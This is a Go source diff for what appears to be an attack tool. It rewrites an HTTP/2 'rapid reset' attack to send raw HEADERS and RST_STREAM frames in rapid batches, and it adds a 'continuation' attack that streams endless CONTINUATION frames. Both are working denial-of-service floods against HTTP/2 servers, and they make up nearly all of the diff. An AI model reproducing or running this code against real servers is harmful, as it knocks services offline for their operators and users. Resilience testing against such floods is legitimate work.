@@ -1,6 +1,7 @@
 package main
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"io"
@@ -62,22 +63,31 @@ var attacks = []struct {
 			}
 		})
 	}},
-	{"rapid reset", func(ctx context.Context, address string) { // streams of HTTP/2 that are reset at once, 1000 per second
-		var protocols http.Protocols
-		protocols.SetUnencryptedHTTP2(true)
-		client := &http.Client{Transport: &http.Transport{
-			Protocols: &protocols,
-			DialContext: func(ctx context.Context, _, address string) (net.Conn, error) {
-				return from.DialContext(ctx, "tcp", address)
-			},
-		}}
-		each(ctx, 20, func() {
-			for ctx.Err() == nil {
-				once, cancel := context.WithTimeout(ctx, time.Millisecond)
-				_, _ = get(once, client, "http://"+address)
-				cancel()
-				time.Sleep(20 * time.Millisecond)
-			}
+	{"rapid reset", func(ctx context.Context, address string) { // streams of HTTP/2 that are reset at once, as fast as they are read
+		each(ctx, 4, func() {
+			var f frames
+			stream := uint32(1)
+			pour(ctx, address, func() []byte {
+				f.Reset()
+				for range 100 {
+					f.add(frameHeaders, endStream|endHeaders, stream, request)
+					f.add(frameReset, 0, stream, []byte{0, 0, 0, cancelled})
+					stream += 2
+				}
+				return f.Bytes()
+			})
+		})
+	}},
+	{"continuation", func(ctx context.Context, address string) { // headers of HTTP/2 without an end
+		each(ctx, 4, func() {
+			var f frames
+			f.add(frameHeaders, endStream, 1, request)
+			pour(ctx, address, func() []byte {
+				out := bytes.Clone(f.Bytes())
+				f.Reset()
+				f.add(frameContinuation, 0, 1, fields)
+				return out
+			})
 		})
 	}},
 }
